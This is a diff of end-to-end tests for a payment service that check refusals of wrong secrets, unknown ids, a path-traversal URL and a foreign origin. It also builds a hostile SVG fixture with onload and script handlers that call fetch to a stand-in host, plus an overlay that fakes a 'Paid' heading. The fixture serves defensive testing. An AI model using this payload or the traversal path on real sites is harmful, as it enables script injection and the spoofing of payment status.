@@ -42,7 +42,7 @@ test('wrong keys, secrets, ids and bodies at the service each have a typed answe
   // A wrong secret of the right payment, and no secret at all.
   expect((await post(`/${order.paymentId}/complete_authorize`, complete, key)).status).toBeGreaterThanOrEqual(400);
   expect((await post(`/${order.paymentId}/complete_authorize`, '{}', key)).status).toBe(400);
-  // Ids that nobody has.
+  // Ids that do not exist.
   const unknown = JSON.stringify({ client_secret: 'pay_nobody_secret_AAAAAAAAAAAAAAAAAAAA' });
   expect((await post('/pay_nobody/complete_authorize', unknown, key)).status).toBeGreaterThanOrEqual(400);
   expect(await send(`${house.service}/no/such/address`, { headers: { 'api-key': key } })).toMatchObject({
@@ -87,7 +87,7 @@ test('wrong secrets, ids, bodies and addresses at the pay origin each have a typ
     await send(select, { method: 'POST', headers: wrong, body: 'payment_method=card' }),
     await send(`${house.pay}/payments/list`),
     await send(`${house.pay}/kit/payments/../../payments/list`, { headers: wrong }),
-    await send(status, { headers: { ...wrong, origin: 'https://elsewhere.example' } }),
+    await send(status, { headers: { ...wrong, origin: 'https://foreign.example' } }),
   ];
   for (const answer of refusals) {
     expect(answer.status).toBeGreaterThanOrEqual(400);
@@ -97,7 +97,7 @@ test('wrong secrets, ids, bodies and addresses at the pay origin each have a typ
   expect(await control.ledger(order.paymentId)).toEqual(before);
 });
 
-test('a link that nobody made says so', async ({ page, house, watch, checkAccessibility }) => {
+test('a link that was never made says so', async ({ page, house, watch, checkAccessibility }) => {
   watch.expectMessage(/status of 404/);
   const response = await page.goto(`${house.pay}/payment_link/merchant_nobody/pay_nobody`);
   expect(response?.status()).toBe(404);
@@ -152,7 +152,7 @@ test('an unknown status word is neither paid nor failed: the page keeps asking u
   await page.goto(order.openLink);
   await till.enterCard({ number: '4000000000000002' });
   await till.pay();
-  // The service's own words are known again with the next read; until then nobody is told "paid".
+  // The service's own words are known again with the next read; until then no page reports "paid".
   await expect(till.text('outcome.failed.title')).toBeVisible({ timeout: 40_000 });
   await expect(till.heading('outcome.succeeded.title')).toBeHidden();
   expect(await control.charges(order.paymentId)).toEqual([]);
@@ -216,8 +216,8 @@ test('a card that is not a card is stopped in the form', async ({
 /** A picture that would run something where pictures may, and is large enough to cover everything where they are drawn as they are. */
 const drawing = (weight = 0) =>
   `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000" onload="top.hostile=1">
-    <script>top.hostile=1; fetch('https://elsewhere.example/told')</script>
-    <image href="https://elsewhere.example/seen.png" width="10" height="10"/>
+    <script>top.hostile=1; fetch('https://foreign.example/sent')</script>
+    <image href="https://foreign.example/seen.png" width="10" height="10"/>
     <foreignObject width="4000" height="4000"><body xmlns="http://www.w3.org/1999/xhtml"><h1>Paid</h1></body></foreignObject>
     <rect width="4000" height="4000" fill="teal"/><!--${'x'.repeat(weight)}--></svg>`;
 
